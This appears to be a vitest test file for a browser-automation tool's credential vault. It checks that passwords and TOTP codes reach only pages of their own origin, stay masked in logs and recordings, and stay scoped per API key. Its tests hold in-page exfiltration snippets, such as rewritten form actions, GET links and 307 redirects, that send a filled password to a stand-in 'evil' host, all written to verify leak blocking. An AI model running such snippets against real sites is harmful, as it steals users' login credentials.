import { chmod, mkdtemp, rm, stat } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import {
  foreignAttempts,
  foreignPages,
  ownPages,
  password,
  recorded,
  refusedAttempts,
  spellingsOf,
} from '../support/attacks.ts'
import type { Check } from '../../src/cli/checks.ts'
import type { CommandsResult } from '../../src/core/shapes/commands.ts'
import { readSecrets } from '../../src/cli/credential/read-secrets.ts'
import type { Io } from '../../src/cli/io.ts'
import { bax, type CliOptions } from '../support/cli.ts'
import { inUsualHomes } from '../support/commands.ts'
import { failureOf, valueOf } from '../support/session-steps.ts'
import { keyHolder } from '../support/owned-objects.ts'
import { openHomes } from '../support/homes.ts'
import { serveSite, type Site } from '../support/site.ts'
import { waitUntil } from '../support/wait.ts'

let evil: Site
let own = ''
const foreign = recorded(() => foreignPages(() => own))
const shop = recorded(() => ownPages(() => evil?.url ?? 'http://evil.example'))

beforeAll(async () => {
  evil = await serveSite(foreign.pages)
})
afterAll(() => evil.close())

inUsualHomes(shop.pages, (given) => {
  const fill = (selector: string | undefined = '#pw', credential = 'shop.password') => ({ selector, credential })
  const fieldValue = () => given.evaluate(`document.querySelector('#pw')?.value ?? ''`)
  const eventsOf = async (type: string) => {
    const { events } = await given.client().getSessionLog({ session_id: given.sessionId() })
    return events.filter((event) => event.type === type).map(({ data }) => data)
  }
  const expectNoLeak = (texts: readonly string[]) => {
    for (const spelling of spellingsOf(password))
      for (const text of texts) expect(text.slice(0, 500)).not.toContain(spelling)
  }

  beforeAll(async () => {
    own = given.site().url
    const origins = [own]
    await given.client().addCredential({ name: 'shop', origins, username: 'ann', password, totp: 'JBSWY3DPEHPK3PXP' })
  })
  beforeEach(() => {
    foreign.received.length = 0
    shop.received.length = 0
  })

  test('writes each part into a page of its origin, which submits it', async () => {
    const { length: before } = await eventsOf('credential.used')
    await given.open('/')
    await given.do('fill', fill('#user', 'shop.username'))
    await given.do('fill', fill())
    await given.do('click', { selector: '#go' })
    await given.do('wait_for', { text: 'Welcome' })
    const posted = shop.received.find((line) => line.startsWith('POST /session'))!
    expect(new URLSearchParams(posted.split(' ')[2])).toEqual(new URLSearchParams({ user: 'ann', pw: password }))
    expect((await eventsOf('credential.used')).slice(before)).toMatchObject([
      { credential: 'shop', part: 'username', success: true, origin: own },
      { credential: 'shop', part: 'password', success: true, origin: own },
    ])
    await given.open('/text')
    await given.do('fill', fill('#pw', 'shop.totp'))
    // The code is a secret too.
    expect(await fieldValue()).toBe('***')
    expect(await given.evaluate(`/^[0-9]{6}$/.test(document.querySelector('#pw').value)`)).toBe(true)
  })

  test('writes into a frame of its origin on any page', async () => {
    await given.do('navigate_to', { url: `${evil.url}/nested` })
    await given.evaluate(`document.querySelector('#f').src = '${own}/'`)
    await given.do('fill', fill('frame=#f >> #pw'))
  })

  test.each(refusedAttempts)(
    'refuses a password on $path: $code',
    async ({ path, code, selector, delivered = false }) => {
      await given.open(path)
      const failed = await given.fails('fill', fill(selector))
      expect(failed).toMatchObject({ code, details: { delivered } })
      expect(await fieldValue()).toBe('')
      expectNoLeak(foreign.received)
    },
  )

  describe('another origin', () => {
    test.each(foreignAttempts)('gets nothing on its page %s', async (path, selector) => {
      await given.do('navigate_to', { url: evil.url + path })
      for (const part of ['username', 'password', 'totp']) {
        const failed = await given.fails('fill', fill(selector, `shop.${part}`))
        const details = { origin: evil.url, origins: [own], delivered: false }
        expect(failed).toMatchObject({ code: 'origin_mismatch', details })
      }
      expectNoLeak(foreign.received)
    })

    test.each([
      ['the name of the host', () => own.replace('127.0.0.1', 'localhost')],
      ['a longer name', () => own.replace('127.0.0.1', '127.0.0.1.localhost')],
      ['the right origin as user name', () => evil.url.replace('//', `//${new URL(own).host}@`)],
      ['a redirect from the right origin', () => `${own}/redirect?to=${encodeURIComponent(`${evil.url}/`)}`],
    ])('gets nothing under %s', async (_, url) => {
      await given.do('navigate_to', { url: url() })
      expect((await given.fails('fill', fill())).code).toBe('origin_mismatch')
      expectNoLeak(foreign.received)
    })

    test.each(['/leaves-on-focus', '/leaves-on-input'])('gets nothing when the page goes there: %s', async (path) => {
      await given.open(path)
      await given.run([['fill', fill()]])
      await given.do('wait_for', { url: `${evil.url}/` })
      expect(await fieldValue()).toBe('')
      expectNoLeak(foreign.received)
    })

    const after = [
      ['a form whose action changes', (to: string) => `form.action = '${to}/session'; form.requestSubmit()`],
      [
        'a form that is sent with GET',
        (to: string) => `form.method = 'get'; form.action = '${to}/session'; form.submit()`,
      ],
      [
        'a form with files',
        (to: string) => `form.enctype = 'multipart/form-data'; form.action = '${to}/session'; form.submit()`,
      ],
      [
        'a form that changes as it is sent',
        (to: string) => `form.onsubmit = () => { form.action = '${to}/session' }; form.requestSubmit()`,
      ],
      [
        'a redirect that repeats the body',
        (to: string) => `form.action = '/redirect?status=307&to=${encodeURIComponent(`${to}/session`)}'; form.submit()`,
      ],
      [
        'a link with the password',
        (to: string) => `location = '${to}/session?' + new URLSearchParams(new FormData(form))`,
      ],
    ] as const
    test.each(after)('gets nothing from %s after the password was written', async (_, code) => {
      await given.restart()
      await given.open('/')
      await given.do('fill', fill())
      await given.evaluate(`setTimeout(() => { const form = document.querySelector('form'); ${code(evil.url)} })`)
      await waitUntil(async () => (await eventsOf('credential.blocked')).length > 0)
      expect(foreign.received.filter((line) => line.includes('/session'))).toEqual([])
    })
  })

  test('is guarded in a frame of a frame of another site', async () => {
    await given.restart()
    await given.do('navigate_to', { url: `${evil.url.replace('127.0.0.1', 'localhost')}/nested` })
    await given.evaluate(`document.querySelector('#f').src = '${evil.url}/around'`)
    const inner = 'frame=#f >> frame=#f >> '
    await given.do('fill', fill(`${inner}#pw`))
    await given.do('click', { selector: `${inner}#go` })
    await waitUntil(async () => (await eventsOf('credential.blocked')).length > 0)
    expect(foreign.received.filter((line) => line.includes('/session'))).toEqual([])
  })

  test('hides the password in results, events, recordings and errors', async () => {
    await given.restart()
    await given.do('start_har')
    await given.do('start_trace')
    await given.open('/')
    await given.do('fill', fill())
    const read = [
      `document.querySelector('#pw').value`,
      `encodeURIComponent(document.querySelector('#pw').value)`,
      `JSON.stringify({ [document.querySelector('#pw').value]: 1 })`,
      `btoa('user:' + unescape(encodeURIComponent(document.querySelector('#pw').value)))`,
      `(document.body.append(document.querySelector('#pw').value), document.title = document.querySelector('#pw').value)`,
      `(console.log(document.querySelector('#pw').value), document.body.outerHTML)`,
      `(history.pushState(0, '', '/?q=' + encodeURIComponent(document.querySelector('#pw').value)), location.href)`,
      `fetch('/session', { method: 'POST', body: document.querySelector('#pw').value }).then((response) => response.status)`,
    ]
    const results: unknown[] = []
    for (const expression of read) results.push(await given.run([['evaluate', { expression }]]))
    results.push(
      await given.run([['get_html'], ['get_value', { selector: '#pw' }], ['get_text', { selector: 'body' }]]),
    )
    results.push(await given.run([['evaluate', { expression: `(() => { throw new Error(document.title) })()` }]]))
    const session_id = given.sessionId()
    results.push(await given.client().observe({ session_id }))
    results.push(await given.client().browserStep({ session_id, commands: [{ command: 'get_title' }], observe: {} }))
    results.push(await given.client().getSession({ session_id }), await given.client().listSessions({}))
    results.push(await given.client().getSessionLog({ session_id }))
    const har = await given.do('stop_har')
    const trace = await given.do('stop_trace')
    const files = await Promise.all(
      [har, trace].map(async ({ name }) => {
        const path = `/sessions/${session_id}/files/${String(name)}`
        return Buffer.from(await (await fetch(`${given.homes().baseUrl}${path}`)).arrayBuffer())
      }),
    )
    const entries = Object.values(unzipSync(files[1]!)).map((bytes) => Buffer.from(bytes).toString())
    expect(files[0]!.toString()).toContain('/session')
    expect(entries.length).toBeGreaterThan(2)
    for (const spelling of spellingsOf(password))
      for (const text of [...results.map((one) => JSON.stringify(one)), files[0]!.toString(), ...entries])
        expect(text.includes(spelling) || text.includes(JSON.stringify(spelling).slice(1, -1))).toBe(false)
    expect(JSON.stringify(results)).toContain('***')
  })

  test('names missing credentials, parts and texts', async () => {
    await given.open('/')
    expect(await given.fails('fill', fill('#pw', 'shp.password'))).toMatchObject({
      code: 'credential_not_found',
      error: 'no credential is named shp (did you mean "shop"?)',
      details: { delivered: false },
    })
    await given.client().addCredential({ name: 'code', origins: [own], totp: 'JBSWY3DPEHPK3PXP' })
    expect((await given.fails('fill', fill('#pw', 'code.password'))).code).toBe('credential_not_found')
    for (const data of [{ selector: '#pw' }, { ...fill(), text: 'x' }, fill('#pw', 'shop.secret')])
      expect(await failureOf(given.run([['fill', data]]))).toMatchObject({ code: 'invalid_request' })
    const short = failureOf(given.client().addCredential({ name: 'short', origins: [own], password: 'abc' }))
    expect((await short).code).toBe('invalid_request')
  })
})

test('the attempts to get a password are forty different pages, besides those that act later', () => {
  const [ours, theirs] = [ownPages(() => 'https://evil.example'), foreignPages(() => 'https://shop.example')]
  const pages = [
    ...refusedAttempts.map(({ path }) => ours[path]!()),
    ...foreignAttempts.map(([path]) => theirs[path]!()),
  ]
  expect(new Set(pages).size).toBeGreaterThanOrEqual(40)
})

test('are used in a session by the key that created it only, not by an admin', async () => {
  const site = await serveSite({ '/': '<title>Log in</title><input type=password id=pw>' })
  const homes = await openHomes()
  const [owner, admin] = [await keyHolder(homes), await keyHolder(homes, ['admin'])]
  await owner.client.addCredential({ name: 'shop', origins: [site.url], username: 'ann', password })
  const { session_id } = await owner.client.createSession({ headless: true, start_url: site.url })
  const batch = {
    session_id: session_id!,
    commands: [
      { command: 'fill', data: { selector: '#pw', credential: 'shop.password' } },
      { command: 'login', data: { credential: 'shop', timeout_ms: 500 } },
    ],
    continue_on_error: true,
  }
  const codesOf = ({ results }: CommandsResult) => results.map(({ code }) => code)
  expect(codesOf(await admin.client.runCommands(batch))).toEqual(['permission_denied', 'permission_denied'])
  expect(codesOf(await admin.client.browserStep(batch))).toEqual(['permission_denied', 'permission_denied'])
  expect(codesOf(await owner.client.runCommands(batch))[0]).toBeUndefined()
  await homes.close()
  await site.close()
})

test('of two keys may have the same name; each key uses, lists, changes and deletes its own', async () => {
  const site = await serveSite({ '/': '<title>Log in</title><input type=password id=pw>' })
  const homes = await openHomes()
  const open = async (word: string) => {
    const { client } = await keyHolder(homes)
    await client.addCredential({ name: 'shop', origins: [site.url], password: word })
    const { session_id = '' } = await client.createSession({ headless: true, start_url: site.url })
    const fill = (credential: string) =>
      client.runCommands({ session_id, commands: [{ command: 'fill', data: { selector: '#pw', credential } }] })
    /** Returns whether the page has got a text. */
    const has = async (text: string) => {
      await fill('shop.password')
      return valueOf(client, session_id, `document.querySelector('#pw').value === ${JSON.stringify(text)}`)
    }
    return { client, session_id, fill, has }
  }
  const [ann, bob] = [await open('word of ann'), await open('word of bob')]
  await ann.client.addCredential({ name: 'bank', origins: [site.url], password: 'word of the bank' })
  expect([await ann.has('word of ann'), await bob.has('word of bob')]).toEqual([true, true])

  // Not even a suggestion names what is of another key.
  for (const name of ['bank', 'bnk']) {
    const { results } = await bob.fill(`${name}.password`)
    expect(results[0]).toMatchObject({ code: 'credential_not_found', error: `no credential is named ${name}` })
    await expect(bob.client.rotateCredential({ name, password: 'other word' })).rejects.toMatchObject({
      code: 'credential_not_found',
    })
    await expect(bob.client.deleteCredential({ name })).rejects.toMatchObject({ code: 'credential_not_found' })
  }
  expect(await bob.client.listCredentials({})).toMatchObject({ credentials: [{ name: 'shop' }], total: 1 })
  expect((await ann.client.listCredentials({})).credentials.map(({ name }) => name)).toEqual(['bank', 'shop'])

  await bob.client.rotateCredential({ name: 'shop', password: 'new word of bob' })
  expect([await ann.has('word of ann'), await bob.has('new word of bob')]).toEqual([true, true])
  await bob.client.deleteCredential({ name: 'shop' })
  expect(await ann.has('word of ann')).toBe(true)
  const { events } = await bob.client.getSessionLog({ session_id: bob.session_id })
  expect(events.filter(({ type, data }) => type === 'credential.used' && data['credential'] !== 'shop')).toEqual([])
  await homes.close()
  await site.close()
})

describe('on the command line', () => {
  let folder: string
  const run = (line: string, options: CliOptions = {}) =>
    bax([...line.split(' '), '--embedded'], { cwd: folder, ...options, env: { BAX_STATE_DIR: folder, ...options.env } })
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'bax-credentials-'))
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))

  test('are added from standard input, listed, rotated and deleted without showing a secret', async () => {
    const add = 'credential add shop --origin https://shop.example/login --origin https://id.example --username ann'
    expect(await run(add, { stdin: `${password}\n` })).toMatchObject({ code: 0, stdout: '', stderr: '' })
    expect((await run('credential list')).stdout).toMatch(
      /shop\s+\["https:\/\/shop\.example","https:\/\/id\.example"\]|shop\s+https:\/\/shop\.example, ?https:\/\/id\.example/,
    )
    const { credentials, total } = JSON.parse((await run('credential list --json')).stdout)
    expect(total).toBe(credentials.length)
    // Other tests leave some, too.
    const shop = credentials.filter(({ name }: { name: string }) => name === 'shop')
    expect(shop).toMatchObject([{ parts: ['username', 'password'] }])
    const rotated = await run('credential rotate shop --totp --no-password --json', { stdin: 'JBSWY3DPEHPK3PXP\n' })
    expect(JSON.parse(rotated.stdout)).toMatchObject({ parts: ['username', 'password', 'totp'] })
    expect(await run(add, { stdin: 'other\n' })).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('a credential is already named shop'),
    })
    expect(await run('credential rotate shop --no-password')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('needs a username, password, totp or passkey'),
    })
    expect((await run('credential delete shop')).code).toBe(0)
    expect(await run('credential rotate shop', { stdin: 'other\n' })).toMatchObject({
      code: 5,
      stderr: expect.stringContaining('no credential is named shop'),
    })
  })

  test('need a line for each secret, and a URL as origin', async () => {
    for (const stdin of ['', 'one\ntwo\n', '\n'])
      expect(await run('credential add x --origin https://x.example', { stdin })).toMatchObject({
        code: 2,
        stderr: expect.stringContaining('not password'),
      })
    for (const origin of ['shop.example', 'ftp://shop.example', 'https://ann:pw@shop.example', 'https://*.example', ''])
      expect((await run(`credential add x --origin ${origin}`, { stdin: 'pass word\n' })).code).toBe(2)
    expect((await run('credential add a.b --origin https://x.example', { stdin: 'pass word\n' })).code).toBe(2)
  })

  test('are asked for in a terminal, without an echo', async () => {
    const shown: string[] = []
    const raw: boolean[] = []
    const stdin = Object.assign(
      (async function* () {
        yield 'seccx'
        yield '\u007Fret\r'
        yield 'JBSWY3DPEHPK3PXP\r'
      })(),
      { isTTY: true, setRawMode: (on: boolean) => raw.push(on) },
    )
    const io = { stdin, stderr: { write: (text: string) => shown.push(text) }, signal: new AbortController().signal }
    expect(await readSecrets(io as unknown as Io, ['password', 'totp'])).toEqual({
      password: 'seccret',
      totp: 'JBSWY3DPEHPK3PXP',
    })
    expect(raw).toEqual([true, false])
    expect(shown.join('')).toBe('Password: \nTOTP secret (base32 or otpauth URI): \n')
  })

  test('are encrypted with a private file, or with BAX_VAULT_KEY, as `bax doctor` says', async () => {
    const check = async (env = {}) => {
      const { checks } = JSON.parse((await run('doctor --json', { env })).stdout) as { checks: Check[] }
      return checks.find(({ name }) => name === 'credentials')
    }
    await run('credential add one --origin https://x.example', { stdin: 'pass word\n' })
    const file = join(folder, 'vault.key')
    expect((await stat(file)).mode & 0o777).toBe(0o600)
    expect(await check()).toMatchObject({ ok: true, found: `encrypted with the key in ${file}` })
    await chmod(file, 0o644)
    expect(await check()).toMatchObject({ ok: false, mend: `run "chmod 600 ${file}"` })
    const env = { BAX_VAULT_KEY: 'a key of sixteen characters' }
    expect(await check(env)).toMatchObject({ ok: true, found: 'encrypted with BAX_VAULT_KEY' })
    expect(await run('credential list', { env })).toMatchObject({
      code: 4,
      stderr: expect.stringContaining('cannot decrypt a stored credential with this vault key'),
    })
  })
})
